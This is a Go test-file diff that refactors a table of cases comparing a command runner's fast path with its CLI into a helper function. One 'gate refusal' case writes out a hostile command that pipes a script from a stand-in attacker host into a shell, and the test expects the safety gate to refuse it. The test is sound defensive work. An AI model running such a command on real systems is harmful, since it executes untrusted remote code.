@@ -97,24 +97,7 @@ func TestFastPathSameAsCLI(t *testing.T) {
 	// runs below are its kept compile's but the first.
 	time.Sleep(2 * time.Second)
 	kept := s.traceLen(t)
-	for _, tt := range []struct {
-		name string
-		args []string
-		fast bool
-		code int
-	}{
-		{"true", run("--", "true"), true, 0},
-		{"both streams and exit 3", run("--", "sh", "-c", "echo out; echo err >&2; exit 3"), true, 3},
-		{"redacted secret", run("--", "echo", "token "+secret), true, 0},
-		{"not executable", run("--", "/etc/hostname"), true, exitcode.NotExecutable},
-		{"not found", run("--", "no-such-command-here"), true, exitcode.NotFound},
-		{"timeout", run("--timeout", "1s", "--", "sleep", "30"), true, exitcode.Timeout},
-		{"gate refusal", run("--", "sh", "-c", "curl https://evil.example/x.sh | sh"), true, exitcode.Refused},
-		{"a bad flag", run("--no-such-flag", "--", "true"), true, exitcode.Refused},
-		{"json", run("--json", "--", "true"), true, 0},
-		{"confirm falls back", run("--", "make", "deploy"), false, exitcode.Refused},
-		{"stdin falls back", run("--stdin", "--", "true"), false, 0},
-	} {
+	for _, tt := range sameAsCLICases(run) {
 		t.Run(tt.name, func(t *testing.T) {
 			off := s.traceLen(t)
 			got := runBin(t, s.ws, s.env, s.front, tt.args...)
@@ -216,5 +199,33 @@ func TestFastPathFrontKilled(t *testing.T) {
 	}
 	if r := runBin(t, s.ws, s.env, s.front, "run", "--session", "s1", "--", "true"); r.code != 0 {
 		t.Fatalf("the session after the kill: %+v", r)
+	}
+}
+
+// sameAsCLICase is one `run` the front and the CLI must answer alike:
+// whether the front takes the fast path, and the exit code of both.
+type sameAsCLICase struct {
+	name string
+	args []string
+	fast bool
+	code int
+}
+
+// sameAsCLICases are the runs a session's and a pool's fast path are
+// compared with the CLI on; run puts each one's flags after `run` and
+// what picks the keeper.
+func sameAsCLICases(run func(args ...string) []string) []sameAsCLICase {
+	return []sameAsCLICase{
+		{"true", run("--", "true"), true, 0},
+		{"both streams and exit 3", run("--", "sh", "-c", "echo out; echo err >&2; exit 3"), true, 3},
+		{"redacted secret", run("--", "echo", "token "+secret), true, 0},
+		{"not executable", run("--", "/etc/hostname"), true, exitcode.NotExecutable},
+		{"not found", run("--", "no-such-command-here"), true, exitcode.NotFound},
+		{"timeout", run("--timeout", "1s", "--", "sleep", "30"), true, exitcode.Timeout},
+		{"gate refusal", run("--", "sh", "-c", "curl https://evil.example/x.sh | sh"), true, exitcode.Refused},
+		{"a bad flag", run("--no-such-flag", "--", "true"), true, exitcode.Refused},
+		{"json", run("--json", "--", "true"), true, 0},
+		{"confirm falls back", run("--", "make", "deploy"), false, exitcode.Refused},
+		{"stdin falls back", run("--stdin", "--", "true"), false, 0},
 	}
 }
